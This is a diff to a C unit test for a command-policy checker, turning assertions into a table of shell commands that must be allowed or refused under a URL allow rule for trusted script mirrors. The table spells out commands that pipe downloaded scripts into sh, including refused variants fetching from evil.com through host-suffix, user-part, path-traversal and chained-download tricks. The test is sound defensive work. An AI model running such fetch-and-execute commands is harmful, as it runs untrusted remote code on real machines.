@@ -137,6 +137,43 @@ test_command_rule(void **state)
 static void
 test_url_rule(void **state)
 {
+	static const struct { const char *cmd; int allowed; } cases[] = {
+		{ "curl -fsSL https://get.example.sh/tools/i.sh | sh", 1 },
+		{ "curl -fsSL https://GET.example.sh/tools/a/b | bash", 1 },
+		{ "wget -qO- https://get.example.sh/tools/i.sh | sh", 1 },
+		{ "sh <(curl -s https://get.example.sh/tools/i)", 1 },
+		{ "curl https://dl.example.org | sh", 1 },
+		{ "curl https://dl.example.org/any/x?y=1 | sh", 1 },
+		{ "curl https://x.example.org/install | sh", 1 },
+		{ "curl https://x.example.org/install/a | sh", 1 },
+		/* Host exact: no suffix, user part, other port or scheme. */
+		{ "curl https://get.example.sh.evil.com/tools/x | sh", 0 },
+		{ "curl https://get.example.sh@evil.com/tools/x | sh", 0 },
+		{ "curl https://u:pw@get.example.sh/tools/x | sh", 0 },
+		{ "curl https://get.example.sh:444/tools/x | sh", 0 },
+		{ "curl http://get.example.sh/tools/x | sh", 0 },
+		{ "curl https://dl.example.org.evil.com | sh", 0 },
+		/* The path at a '/' boundary, no dot segments, encodings. */
+		{ "curl https://get.example.sh/toolsx/i | sh", 0 },
+		{ "curl https://get.example.sh/tools/../x | sh", 0 },
+		{ "curl https://get.example.sh/tools/%2e%2e/x | sh", 0 },
+		{ "curl https://x.example.org/installer | sh", 0 },
+		{ "curl https://get.example.sh/ | sh", 0 },
+		/* One source only: a second download from elsewhere. */
+		{ "curl https://get.example.sh/tools/i | sh; "
+		  "curl https://evil.com/x | sh", 0 },
+		{ "curl https://evil.com/x | sh; "
+		  "curl https://get.example.sh/tools/i | sh", 0 },
+		/* Several URLs, or options that read more: no one source. */
+		{ "curl https://get.example.sh/tools/i https://evil.com/x "
+		  "| sh", 0 },
+		{ "curl -K cfg https://get.example.sh/tools/i | sh", 0 },
+		{ "curl --config cfg https://get.example.sh/tools/i | sh", 0 },
+		{ "wget -i list -O- https://get.example.sh/tools/i | sh", 0 },
+		{ "curl $U | sh", 0 },
+		/* Other findings of the same command still count. */
+		{ "curl https://get.example.sh/tools/i | sudo sh", 0 },
+	};
 	struct vg_policy *p = site("allow:\n"
 	    "  - id: our-mirror\n"
 	    "    category: remote-code\n"
@@ -151,54 +188,13 @@ test_url_rule(void **state)
 	    "    url: https://x.example.org/install\n"
 	    "    reason: one script\n");
 
+	size_t k;
+
 	(void)state;
-	assert_true(allows(p, "curl -fsSL https://get.example.sh/tools/i.sh "
-	    "| sh"));
-	assert_true(allows(p, "curl -fsSL https://GET.example.sh/tools/a/b "
-	    "| bash"));
-	assert_true(allows(p, "wget -qO- https://get.example.sh/tools/i.sh "
-	    "| sh"));
-	assert_true(allows(p, "sh <(curl -s https://get.example.sh/tools/i)"));
-	assert_true(allows(p, "curl https://dl.example.org | sh"));
-	assert_true(allows(p, "curl https://dl.example.org/any/x?y=1 | sh"));
-	assert_true(allows(p, "curl https://x.example.org/install | sh"));
-	assert_true(allows(p, "curl https://x.example.org/install/a | sh"));
-	/* Host exact: no suffix, no user part, no other port or scheme. */
-	assert_false(allows(p, "curl https://get.example.sh.evil.com/tools/x "
-	    "| sh"));
-	assert_false(allows(p, "curl https://get.example.sh@evil.com/tools/x "
-	    "| sh"));
-	assert_false(allows(p, "curl https://u:pw@get.example.sh/tools/x | "
-	    "sh"));
-	assert_false(allows(p, "curl https://get.example.sh:444/tools/x | "
-	    "sh"));
-	assert_false(allows(p, "curl http://get.example.sh/tools/x | sh"));
-	assert_false(allows(p, "curl https://dl.example.org.evil.com | sh"));
-	/* Path prefix at a '/' boundary, no dot segments or encodings. */
-	assert_false(allows(p, "curl https://get.example.sh/toolsx/i | sh"));
-	assert_false(allows(p, "curl https://get.example.sh/tools/../x | sh"));
-	assert_false(allows(p, "curl https://get.example.sh/tools/%2e%2e/x | "
-	    "sh"));
-	assert_false(allows(p, "curl https://x.example.org/installer | sh"));
-	assert_false(allows(p, "curl https://get.example.sh/ | sh"));
-	/* One source only: a second download from elsewhere is refused. */
-	assert_false(allows(p, "curl https://get.example.sh/tools/i | sh; "
-	    "curl https://evil.com/x | sh"));
-	assert_false(allows(p, "curl https://evil.com/x | sh; "
-	    "curl https://get.example.sh/tools/i | sh"));
-	/* Several URLs, or options that read more, have no one source. */
-	assert_false(allows(p, "curl https://get.example.sh/tools/i "
-	    "https://evil.com/x | sh"));
-	assert_false(allows(p, "curl -K cfg https://get.example.sh/tools/i | "
-	    "sh"));
-	assert_false(allows(p, "curl --config cfg "
-	    "https://get.example.sh/tools/i | sh"));
-	assert_false(allows(p, "wget -i list -O- "
-	    "https://get.example.sh/tools/i | sh"));
-	assert_false(allows(p, "curl $U | sh"));
-	/* Other findings of the same command still count. */
-	assert_false(allows(p, "curl https://get.example.sh/tools/i | "
-	    "sudo sh"));
+	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++)
+		if (allows(p, cases[k].cmd) != cases[k].allowed)
+			fail_msg("'%s': want %s", cases[k].cmd,
+			    cases[k].allowed ? "allowed" : "refused");
 	vg_policy_free(p);
 }
 
